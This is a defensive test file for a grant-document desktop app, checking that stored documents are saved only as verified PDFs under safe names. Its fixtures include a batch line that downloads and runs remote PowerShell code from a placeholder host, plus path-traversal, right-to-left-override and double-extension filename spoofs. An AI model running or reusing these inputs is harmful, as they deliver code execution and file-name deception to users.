import { createHash, randomUUID } from 'node:crypto'
import fs from 'node:fs'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { produceDocument } from '../../database/documents'
import { handOver } from '../../database/handover'
import { safeFileName } from '../../database/file/file-names'
import { documentFileName, documentNamer } from '../../templates/produce'
import type { Workspace } from '../../electron/api/workspace'
import { runHere } from './cli-helpers'
import { makeAmifFile, OFFICER, ok, openNewFile, refused, sha256, tempDir, testWorkspace } from './helpers'

/**
 * Documents that come in with a colleague's file are data, never programs: whatever a register
 * row holds, saving or opening it writes only a PDF matching its SHA-256, under a name the app
 * makes; a handover never replaces a file without asking, and a failure removes only what it made.
 */

const TODAY = '2026-12-01'
const PDF = Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1')
const BATCH = Buffer.from('@echo off\r\npowershell -c "iwr http://example.invalid/x | iex"\r\n', 'latin1')

const hex = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex')

/** Writes a register row straight into the file, as a crafted file would hold it; returns its id. */
function plantDocument(ws: Workspace, row: Record<string, unknown> = {}): string {
  const bytes = (row.pdf as Buffer | undefined) ?? PDF
  const at = '2026-11-20T09:30:00.000Z'
  const values: Record<string, unknown> = {
    id: randomUUID(),
    kind: 'programme',
    project_id: null,
    language: 'fr',
    version: 3,
    status: 'final',
    reference: 'PROG/2026-11-20/3',
    title: 'Rapport de programme',
    file_name: 'Rapport de programme 2026-11-20 n3.pdf',
    produced_at: at,
    produced_by: 'Pieter Janssens',
    finalized_at: at,
    page_count: 1,
    byte_size: bytes.length,
    sha256: hex(bytes),
    pdf: bytes,
    data_json: '{}',
    params_json: null,
    created_at: at,
    updated_at: at,
    updated_by: 'Pieter Janssens',
    ...row,
  }
  const columns = Object.keys(values)
  ws.file()
    .sqlite.prepare(`INSERT INTO documents (${columns.join(', ')}) VALUES (${columns.map((c) => `@${c}`).join(', ')})`)
    .run(values)
  return values.id as string
}

async function emptyFile() {
  const t = testWorkspace()
  await openNewFile(t.ws, path.join(t.dir, 'Fedasil.amif'))
  const out = path.join(t.dir, 'out')
  fs.mkdirSync(out)
  return { ...t, out }
}

describe('a stored document saved or opened', () => {
  it('is saved under the name the app makes, never the one stored with it, and only then opened', async () => {
    const t = await emptyFile()
    const id = plantDocument(t.ws, { file_name: 'Convention.pdf      .cmd' })
    t.dialogs.nextSavePath = path.join(t.out, 'Rapport.pdf')
    const saved = await ok(t.ws, 'documents.save', { id })
    expect(t.dialogs.saveRequests.at(-1)?.defaultName).toBe('Rapport de programme 2026-11-20 n3.pdf')
    expect(saved).toMatchObject({ cancelled: false, path: path.join(t.out, 'Rapport.pdf'), bytes: PDF.length, sha256: hex(PDF) })
    expect(t.dialogs.opened).toEqual([path.join(t.out, 'Rapport.pdf')])
    expect(fs.readdirSync(t.out)).toEqual(['Rapport.pdf'])
  })

  it('is refused, writing and opening nothing, when its bytes are a script with a matching SHA-256', async () => {
    const t = await emptyFile()
    const id = plantDocument(t.ws, { file_name: 'Convention.pdf      .cmd', pdf: BATCH, sha256: hex(BATCH), byte_size: BATCH.length })
    t.dialogs.nextSavePath = path.join(t.out, 'Convention.pdf      .cmd')
    const error = await refused(t.ws, 'documents.save', { id })
    expect(error.code).toBe('DOCUMENT_INVALID')
    expect(t.dialogs.saveRequests.map((r) => r.defaultName)).not.toContain('Convention.pdf      .cmd')
    expect(fs.readdirSync(t.out)).toEqual([])
    expect(t.dialogs.opened).toEqual([])
  })

  it('is refused when its bytes do not match the stored SHA-256, and an existing file there stays as it was', async () => {
    const t = await emptyFile()
    const forged = Buffer.concat([PDF, Buffer.from('% pay to BE71 0961 2345 6769\n')])
    const id = plantDocument(t.ws, { pdf: forged, byte_size: forged.length, sha256: hex(PDF) })
    const target = path.join(t.out, 'Rapport.pdf')
    fs.writeFileSync(target, 'the officer’s own report')
    t.dialogs.nextSavePath = target
    expect((await refused(t.ws, 'documents.save', { id })).code).toBe('DOCUMENT_INVALID')
    expect(fs.readFileSync(target, 'utf8')).toBe('the officer’s own report')
    expect(fs.readdirSync(t.out)).toEqual(['Rapport.pdf'])
    expect(t.dialogs.opened).toEqual([])
  })

  it('is refused over the size cap, with its own message, before its bytes are read', async () => {
    const t = await emptyFile()
    const big = Buffer.alloc(50 * 1024 * 1024 + 1, 0x20)
    PDF.copy(big)
    // The file's own CHECK refuses such a row since migration 005; the save path must refuse it too
    // should one ever be there (a CHECK bypassed with ignore_check_constraints by whoever made the file).
    const sqlite = t.ws.file().sqlite
    sqlite.pragma('ignore_check_constraints = ON')
    const id = plantDocument(t.ws, { pdf: big, byte_size: big.length, sha256: hex(big) })
    sqlite.pragma('ignore_check_constraints = OFF')
    t.dialogs.nextSavePath = path.join(t.out, 'big.pdf')
    const error = await refused(t.ws, 'documents.save', { id })
    expect(error.code).toBe('DOCUMENT_TOO_LARGE')
    expect(error.details).toMatchObject({ maxBytes: 50 * 1024 * 1024 })
    expect(fs.readdirSync(t.out)).toEqual([])
  })

  it('always ends in .pdf, even when the officer typed another extension in the dialog', async () => {
    const t = await emptyFile()
    const id = plantDocument(t.ws)
    t.dialogs.nextSavePath = path.join(t.out, 'rapport.cmd . .')
    const saved = await ok(t.ws, 'documents.save', { id })
    expect(saved).toMatchObject({ path: path.join(t.out, 'rapport.cmd.pdf') })
    expect(t.dialogs.opened).toEqual([path.join(t.out, 'rapport.cmd.pdf')])
    expect(fs.readdirSync(t.out)).toEqual(['rapport.cmd.pdf'])
  })
})

describe('a document produced', () => {
  it('over the size cap is refused with its own message and not kept in the register', async () => {
    const t = await emptyFile()
    const big = Buffer.alloc(50 * 1024 * 1024 + 1, 0x20)
    PDF.copy(big)
    const request = {
      kind: 'programme' as const,
      projectId: null,
      language: 'fr' as const,
      data: {},
      params: null,
      name: documentNamer('programme', 'fr', null, TODAY),
    }
    await expect(produceDocument(t.ws.writableFile().db, OFFICER, { ...request, render: async () => ({ bytes: big, pageCount: 1 }) })).rejects.toMatchObject({
      code: 'DOCUMENT_TOO_LARGE',
    })
    expect((await ok(t.ws, 'documents.list', {})).rows).toEqual([])
    await produceDocument(t.ws.writableFile().db, OFFICER, { ...request, render: async () => ({ bytes: PDF, pageCount: 1 }) })
    expect((await ok(t.ws, 'documents.list', {})).rows).toHaveLength(1)
  })
})

describe('the name a document is saved under', () => {
  const doc = { projectCode: 'AMIF-2024-RV-01', version: 2, producedAt: '2026-12-01T10:00:00.000Z' }
  it('is made from its kind, project code, version, status and language', () => {
    const names = (['fr', 'nl', 'en'] as const).flatMap((language) =>
      (['agreement', 'report'] as const).flatMap((kind) => (['draft', 'final'] as const).map((status) => documentFileName({ ...doc, kind, language, status }))),
    )
    expect(names).toEqual([
      'AMIF-2024-RV-01 Convention de subvention v2 (brouillon).pdf',
      'AMIF-2024-RV-01 Convention de subvention v2.pdf',
      'AMIF-2024-RV-01 Rapport d’évaluation v2 (brouillon).pdf',
      'AMIF-2024-RV-01 Rapport d’évaluation v2.pdf',
      'AMIF-2024-RV-01 Subsidieovereenkomst v2 (ontwerp).pdf',
      'AMIF-2024-RV-01 Subsidieovereenkomst v2.pdf',
      'AMIF-2024-RV-01 Evaluatieverslag v2 (ontwerp).pdf',
      'AMIF-2024-RV-01 Evaluatieverslag v2.pdf',
      'AMIF-2024-RV-01 Grant agreement v2 (draft).pdf',
      'AMIF-2024-RV-01 Grant agreement v2.pdf',
      'AMIF-2024-RV-01 Evaluation report v2 (draft).pdf',
      'AMIF-2024-RV-01 Evaluation report v2.pdf',
    ])
    const programme = { ...doc, kind: 'programme' as const, projectCode: null, status: 'final' as const }
    expect(documentFileName({ ...programme, language: 'nl' })).toBe('Programmarapport 2026-12-01 n2.pdf')
    expect(documentFileName({ ...programme, kind: 'handover', language: 'en' })).toBe('Handover summary 2026-12-01.pdf')
    // A production date that is not one is left out rather than copied into the name.
    expect(documentFileName({ ...programme, language: 'fr', producedAt: '../../x.cmd' })).toBe('Rapport de programme n2.pdf')
    expect(documentNamer('agreement', 'fr', 'AMIF-2024-RV-01', TODAY)(1, 'draft').fileName).toBe('AMIF-2024-RV-01 Convention de subvention v1 (brouillon).pdf')
  })

  it('stays in its folder and ends in .pdf whatever the project code holds', () => {
    const made = (projectCode: string) => documentFileName({ ...doc, projectCode, kind: 'agreement', language: 'en', status: 'final' })
    expect(made('..\\..\\Startup/evil')).toBe('-..-Startup-evil Grant agreement v2.pdf')
    expect(made('X\u202Efdp.cmd')).toBe('X-fdp.cmd Grant agreement v2.pdf')
    expect(made('A'.repeat(5000)).length).toBeLessThanOrEqual(120)
    expect(made('A'.repeat(5000)).endsWith('.pdf')).toBe(true)
  })

  it('is made safe: no separators, no trailing dots or spaces, no reserved Windows names, bounded', () => {
    expect(safeFileName('Convention.pdf      .cmd')).toBe('Convention.pdf .cmd.pdf')
    expect(safeFileName('report.pdf. . ')).toBe('report.pdf')
    expect(safeFileName('Rapport.PDF')).toBe('Rapport.PDF')
    expect(safeFileName('CON')).toBe('_CON.pdf')
    expect(safeFileName('nul.txt')).toBe('_nul.txt.pdf')
    expect(safeFileName('com1.pdf')).toBe('_com1.pdf')
    expect(safeFileName('a/b\\c:d*e?f"g<h>i|j\u0000k')).toBe('a-b-c-d-e-f-g-h-i-j-k.pdf')
    expect(safeFileName('  ...  ')).toBe('document.pdf')
    expect(safeFileName(`${'é'.repeat(200)}😀`)).toHaveLength(120)
    expect(safeFileName(`${'x'.repeat(115)}😀😀`)).toBe(`${'x'.repeat(115)}.pdf`)
  })
})

describe('the handover summary', () => {
  async function demo() {
    const t = testWorkspace()
    await openNewFile(t.ws, path.join(t.dir, 'Fedasil 2026.amif'), { demo: true })
    const out = path.join(t.dir, 'out')
    fs.mkdirSync(out)
    return { ...t, out }
  }
  const values = { toName: 'Pieter Janssens', note: 'Les dossiers retour sont à jour.' }

  it('never replaces an existing file without asking; once the officer agrees it goes where they chose, without a second dialog', async () => {
    const t = await demo()
    const dest = path.join(t.out, 'Passation.amif')
    const summary = path.join(t.out, 'Passation.pdf')
    fs.writeFileSync(summary, 'minutes of the team meeting')
    t.dialogs.nextSavePath = dest
    const error = await refused(t.ws, 'handover.write', { values, language: 'fr', today: TODAY })
    expect(error).toMatchObject({ code: 'FILE_EXISTS', details: { path: summary, summary: true } })
    expect(fs.readFileSync(summary, 'utf8')).toBe('minutes of the team meeting')
    expect(fs.readdirSync(t.out)).toEqual(['Passation.pdf'])
    expect(await ok(t.ws, 'handover.latest', {})).toMatchObject({ handover: null })

    t.dialogs.nextSavePath = null
    const dialogs = t.dialogs.saveRequests.length
    const r = await ok(t.ws, 'handover.write', { values, language: 'fr', today: TODAY, replaceSummary: true })
    if (r.cancelled) throw new Error('cancelled')
    expect(t.dialogs.saveRequests).toHaveLength(dialogs)
    expect(r).toMatchObject({ path: dest, pdfPath: summary })
    expect(fs.readFileSync(summary).subarray(0, 5).toString('latin1')).toBe('%PDF-')
    expect(fs.readdirSync(t.out).sort()).toEqual(['Passation.amif', 'Passation.pdf'])

    await ok(t.ws, 'handover.openSummary', {})
    expect(t.dialogs.opened).toEqual([summary])
    // Opening it checks it again: a summary changed since it was written is not handed to the system.
    fs.appendFileSync(summary, '\n% changed')
    expect((await refused(t.ws, 'handover.openSummary', {})).code).toBe('DOCUMENT_INVALID')
    expect(t.dialogs.opened).toEqual([summary])
  })

  it('that fails leaves the files already at the chosen place as they were', async () => {
    const t = await demo()
    const dest = path.join(t.out, 'Passation.amif')
    const summary = path.join(t.out, 'Passation.pdf')
    fs.writeFileSync(dest, 'last year’s handover copy')
    fs.writeFileSync(summary, 'last year’s summary')
    const before = { dest: sha256(dest), summary: sha256(summary) }
    const request = {
      toName: 'Pieter Janssens',
      note: 'x',
      destPath: dest,
      officer: OFFICER,
      language: 'fr' as const,
      today: TODAY,
      items: [],
      name: () => ({ reference: 'PASS/2026-12-01/1', title: 'Résumé de passation', fileName: 'x.pdf' }),
      replaceSummary: true,
    }
    await expect(
      handOver(t.ws.writableFile(), {
        ...request,
        render: async () => {
          throw new Error('the renderer ran out of memory')
        },
      }),
    ).rejects.toMatchObject({ code: 'WRITE_FAILED' })
    expect({ dest: sha256(dest), summary: sha256(summary) }).toEqual(before)
    expect(fs.readdirSync(t.out).sort()).toEqual(['Passation.amif', 'Passation.pdf'])

    // Rendered bytes that are not a PDF are not written either.
    await expect(handOver(t.ws.writableFile(), { ...request, render: async () => ({ bytes: BATCH, pageCount: 1 }) })).rejects.toMatchObject({
      code: 'DOCUMENT_INVALID',
    })
    expect({ dest: sha256(dest), summary: sha256(summary) }).toEqual(before)
    expect(fs.readdirSync(t.out).sort()).toEqual(['Passation.amif', 'Passation.pdf'])
    expect(await ok(t.ws, 'handover.latest', {})).toMatchObject({ handover: null })
  })

  it('on the command line, refuses to replace existing files unless --force', async () => {
    const dir = tempDir()
    const file = await makeAmifFile(path.join(dir, 'Fedasil.amif'), { demo: true })
    const out = path.join(dir, 'out')
    fs.mkdirSync(out)
    const args = ['handover', file, '--to', 'Pieter', '--note', 'Voici.', '--out', out, '--today', TODAY]
    const copy = path.join(out, `Fedasil – passation ${TODAY}.amif`)
    const summary = path.join(out, `Fedasil – passation ${TODAY}.pdf`)
    fs.writeFileSync(summary, 'kept')
    const refusedRun = await runHere(args)
    expect(refusedRun.code).toBe(2)
    expect(JSON.parse(refusedRun.stdout)).toMatchObject({ ok: false, code: 'FILE_EXISTS' })
    expect(fs.readdirSync(out)).toEqual([path.basename(summary)])
    expect(fs.readFileSync(summary, 'utf8')).toBe('kept')

    fs.rmSync(summary)
    fs.writeFileSync(copy, 'kept')
    expect((await runHere(args)).code).toBe(2)
    expect(fs.readFileSync(copy, 'utf8')).toBe('kept')

    const forced = await runHere([...args, '--force'])
    expect(forced.code).toBe(0)
    expect(JSON.parse(forced.stdout)).toMatchObject({ ok: true, path: copy, summary: { path: summary } })
    expect(fs.readdirSync(out).sort()).toEqual([path.basename(copy), path.basename(summary)].sort())
  })
})
